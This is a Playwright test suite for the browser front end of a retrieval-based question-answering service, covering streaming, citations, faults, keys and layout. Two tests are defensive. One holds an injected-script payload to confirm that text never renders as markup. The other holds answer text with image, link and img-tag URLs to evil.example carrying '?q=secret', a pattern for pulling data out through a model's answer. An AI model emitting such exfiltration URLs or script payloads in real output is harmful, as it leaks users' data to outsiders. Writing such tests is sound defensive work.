"""The page when things go wrong, and what it must never do, against a backend where every fault comes on demand."""

import pytest
from playwright.sync_api import Browser, Page, expect

from component.browser import PHONE, ask, tab
from fakes.page_backend import PageBackend, Script, planned
from fakes.page_wire import ANSWER, PASSAGE, QUOTE, SCRIPT

pytestmark = pytest.mark.timeout(120)


@pytest.fixture
def backend(backend: PageBackend) -> PageBackend:
    backend.put("guide/documents.md", PASSAGE * 5, title="Documents")
    return backend


def test_the_answer_is_shown_while_it_is_written(page: Page, backend: PageBackend) -> None:
    backend.hold()
    ask(page, "How soon?")
    expect(page.locator(".answer")).to_contain_text("The document is searchable as soon")
    expect(page.locator("#stop")).to_be_visible()
    expect(page.locator(".source-card")).to_have_count(0)
    backend.release()
    expect(page.locator(".source-card")).to_have_count(2)
    expect(page.locator("#send")).to_be_visible()
    expect(page.locator(".answer pre")).to_have_text("curl -T guide.md localhost:8000/v1/documents/guide.md")
    expect(page.locator(".answer li code")).to_have_text("tandem ingest PATH")
    expect(page.locator(".facts")).to_contain_text("answer@1")
    expect(page.locator(".facts")).to_contain_text("158 ms")


def test_a_citation_marks_exactly_its_span(page: Page) -> None:
    ask(page, "How soon?")
    page.click(".cite >> nth=0")
    panel = page.get_by_role("dialog", name="Documents")
    expect(panel.locator("mark")).to_have_text(QUOTE)
    expect(panel.locator(".passage-text")).to_have_text(PASSAGE.strip())
    expect(panel).to_contain_text("Add documents")
    expect(panel).to_contain_text("0.910")
    panel.get_by_role("button", name="Show in the document").click()
    expect(panel.locator(".document-text mark")).to_have_text(QUOTE)
    # Chunks overlap; the document must not repeat itself.
    assert panel.locator(".document-text").text_content() == PASSAGE * 5


def test_the_keyboard_is_enough(page: Page, backend: PageBackend) -> None:
    expect(page.locator("#question")).to_be_focused()
    page.locator(".skip").focus()
    page.keyboard.press("Enter")
    expect(page.locator("#question")).to_be_focused()
    page.locator("#theme").focus()
    page.keyboard.press("/")
    expect(page.locator("#question")).to_be_focused()
    page.keyboard.type("One line")
    page.keyboard.press("Shift+Enter")
    page.keyboard.type("and another/")
    page.keyboard.press("Enter")
    expect(page.locator(".source-card")).to_have_count(2)
    assert backend.seen.questions[-1]["messages"][-1]["content"] == "One line\nand another/"
    citation = page.locator(".cite").first
    citation.focus()
    page.keyboard.press("Enter")
    expect(page.locator("#panel")).to_be_visible()
    page.keyboard.press("Escape")
    expect(page.locator("#panel")).to_be_hidden()
    expect(citation).to_be_focused()


@pytest.mark.parametrize("how", ["key", "button"])
def test_stopping_keeps_what_came_and_frees_the_server(page: Page, backend: PageBackend, how: str) -> None:
    backend.hold()
    ask(page, "How soon?")
    expect(page.locator(".answer")).to_contain_text("soon")
    if how == "key":
        page.keyboard.press("Escape")
    else:
        page.click("#stop")
    expect(page.locator(".turn")).to_have_attribute("data-state", "stopped")
    expect(page.locator(".answer")).to_contain_text("The document is searchable as soon")
    backend.release()
    page.wait_for_timeout(50)
    for _ in range(100):
        if backend.seen.left:
            break
        page.wait_for_timeout(50)
    assert backend.seen.left == 1


def test_earlier_turns_are_sent_along_until_a_new_conversation(page: Page, backend: PageBackend) -> None:
    ask(page, "First?")
    expect(page.locator(".source-card")).to_have_count(2)
    ask(page, "Second?")
    expect(page.locator(".source-card")).to_have_count(4)
    sent = backend.seen.questions[-1]
    assert [(m["role"], m["content"].strip()) for m in sent["messages"]] == [
        ("user", "First?"), ("assistant", ANSWER.strip()), ("user", "Second?"),
    ]  # fmt: skip
    assert sent["tandem"] == {"explain": True}
    page.click("#new")
    expect(page.locator(".turn")).to_have_count(0)
    ask(page, "Third?")
    expect(page.locator(".source-card")).to_have_count(2)
    assert len(backend.seen.questions[-1]["messages"]) == 1


def test_a_busy_server_is_given_its_time(page: Page, backend: PageBackend) -> None:
    backend.script.faults = [planned(429, "overloaded", "All places are taken.", retry_after="2")]
    ask(page, "How soon?")
    notice = page.get_by_role("alert").filter(has_text="The server is busy")
    expect(notice).to_contain_text("All places are taken.")
    retry = notice.get_by_role("button")
    expect(retry).to_be_disabled()
    expect(retry).to_contain_text("in 2 s")
    expect(retry).to_be_enabled()
    retry.click()
    expect(page.locator(".source-card")).to_have_count(2)
    expect(page.locator(".turn")).to_have_count(1)


@pytest.mark.parametrize(("script", "words"), [
    (Script(break_after=6), "The predictor went away."),
    (Script(cut_after=6), "The connection ended before the answer did."),
])  # fmt: skip
def test_a_broken_answer_keeps_its_beginning_and_says_so(
    page: Page, backend: PageBackend, script: Script, words: str
) -> None:
    backend.script = script
    ask(page, "How soon?")
    expect(page.locator(".turn .fault")).to_contain_text("This answer is incomplete")
    expect(page.locator(".turn .fault")).to_contain_text(words)
    expect(page.locator(".answer")).to_contain_text("The document is searchable as soon")
    page.reload()
    expect(page.locator(".turn .fault")).to_contain_text(words)
    backend.script = Script()
    page.get_by_role("button", name="Try again").click()
    expect(page.locator(".source-card")).to_have_count(2)
    expect(page.locator(".turn")).to_have_count(1)


def test_a_lost_network_is_told(page: Page) -> None:
    page.route("**/v1/chat/completions", lambda route: route.abort("connectionrefused"))
    ask(page, "Anyone?")
    expect(page.locator(".turn .fault")).to_contain_text("The server cannot be reached")
    page.unroute("**/v1/chat/completions")
    page.get_by_role("button", name="Try again").click()
    expect(page.locator(".source-card")).to_have_count(2)


def test_a_key_is_asked_for_kept_in_the_tab_and_sent(browser: Browser, backend: PageBackend, url: str) -> None:
    backend.script.key = "open-sesame"
    with tab(browser, url) as page:
        dialog = page.get_by_role("dialog", name="This server asks for an API key")
        dialog.get_by_label("API key").fill("wrong")
        page.keyboard.press("Enter")
        expect(dialog).to_contain_text("This key is not known.")
        dialog.get_by_role("button", name="Not now").click()
        expect(page.locator("#server-fault")).to_contain_text("An API key is needed")
        page.locator("#server-fault").get_by_role("button").click()
        dialog.get_by_label("API key").fill("open-sesame")
        page.keyboard.press("Enter")
        expect(page.locator("#model")).to_contain_text("extractive — quotes sentences of your documents")
        expect(page.locator("#server-fault")).to_be_empty()
        page.reload()
        expect(page.locator("#model")).to_contain_text("extractive")
        assert page.evaluate("JSON.stringify(localStorage)") == "{}"


def test_not_knowing_is_no_error(page: Page, backend: PageBackend) -> None:
    backend.script.abstain = True
    backend.script.degraded = ["rerank_skipped"]
    ask(page, "What boils?")
    expect(page.locator(".turn")).to_contain_text("I don't know from these documents.")
    expect(page.locator(".turn .fault")).to_have_count(0)
    expect(page.locator(".nearest .passage-link")).to_have_count(3)
    expect(page.locator(".degraded")).to_have_text("Reranking was skipped to save time.")
    page.locator(".nearest .passage-link").first.click()
    expect(page.locator("#panel")).to_contain_text("Put a file with one request.")


def test_the_trace_shows_every_stage(page: Page) -> None:
    ask(page, "How soon?")
    page.get_by_text("How this was found").click()
    trace = page.locator(".trace")
    for stage in ("Dense", "Sparse", "Fused", "Reranked"):
        expect(trace.get_by_role("heading", name=stage)).to_be_visible()
    expect(trace.locator(".stage tbody tr")).to_have_count(12)
    expect(trace).to_contain_text("0.655")
    trace.get_by_text("2 passages left out, threshold 0.350").click()
    expect(trace).to_contain_text("repeats another passage (guide/documents.md#0)")


def test_text_never_becomes_markup(page: Page, backend: PageBackend) -> None:
    backend.script.answer = f"{SCRIPT} **{SCRIPT}** `{SCRIPT}` [1] [9]"
    backend.put(f"{SCRIPT}.md", SCRIPT, title=SCRIPT)
    ask(page, SCRIPT)
    expect(page.locator(".answer")).to_contain_text("<script>")
    expect(page.locator(".answer")).to_contain_text("[9]")
    page.get_by_text("How this was found").click()
    page.get_by_role("button", name="Limits").first.click()
    expect(page.locator("#panel .passage-text")).to_have_text(SCRIPT)
    page.goto(page.url.split("#")[0] + "#documents")
    expect(page.locator(".document-name").first).to_contain_text("<img")
    assert page.locator("main img, dialog img, main script").count() == 0
    assert "owned" not in page.title()


def test_no_address_in_an_answer_is_loaded_or_followed(page: Page, backend: PageBackend) -> None:
    """An answer may be made to say where its words should be carried; the page takes nobody there."""
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    backend.script.answer = (
        "See ![chart](https://evil.example/i.png?q=secret) and [more](https://evil.example/?q=secret) or "
        '<img src="https://evil.example/p?q=secret"> https://evil.example/plain [1]'
    )
    ask(page, "How soon?")
    expect(page.locator(".answer")).to_contain_text("![chart](https://evil.example/i.png?q=secret)")
    assert page.locator(".answer img, .answer a[href*='evil']").count() == 0
    assert [url for url in asked if "evil.example" in url] == []


def test_reloading_in_the_middle_keeps_the_question(page: Page, backend: PageBackend) -> None:
    backend.hold()
    ask(page, "How soon?")
    expect(page.locator(".answer")).to_contain_text("soon")
    page.reload()
    expect(page.locator(".question")).to_have_text("How soon?")
    expect(page.locator(".turn")).to_contain_text("The page was left before this answer was complete.")
    backend.release()


def test_colours_follow_the_system_until_chosen(browser: Browser, url: str) -> None:
    def paper(page: Page) -> str:
        return str(page.evaluate("getComputedStyle(document.documentElement).backgroundColor"))

    with tab(browser, url) as light, tab(browser, url, dark=True) as dark:
        day, night = paper(light), paper(dark)
        assert day != night
        light.click("#theme")
        light.click("#theme")
        assert paper(light) == night
        light.reload()
        assert paper(light) == night
        dark.click("#theme")
        assert paper(dark) == day


def test_a_phone_sees_everything(browser: Browser, backend: PageBackend, url: str) -> None:
    def overflow(page: Page) -> int:
        return int(page.evaluate("document.documentElement.scrollWidth - innerWidth"))

    with tab(browser, url, PHONE) as page:
        backend.script.answer = "A" * 300 + " [1]"
        ask(page, "B" * 300)
        expect(page.locator(".cite")).to_be_visible()
        page.get_by_text("How this was found").click()
        page.get_by_text("passages left out").click()
        assert overflow(page) <= 0
        page.locator(".cite").tap()
        expect(page.locator("#panel")).to_be_visible()
        assert page.evaluate("document.querySelector('#panel').matches(':modal')")
        page.get_by_role("button", name="Close").tap()
        backend.script.abstain = True
        ask(page, "What boils?")
        expect(page.locator(".nearest")).to_be_visible()
        assert overflow(page) <= 0
        page.get_by_role("link", name="Documents", exact=True).tap()
        expect(page.locator(".document-name")).to_be_visible()
        assert overflow(page) <= 0
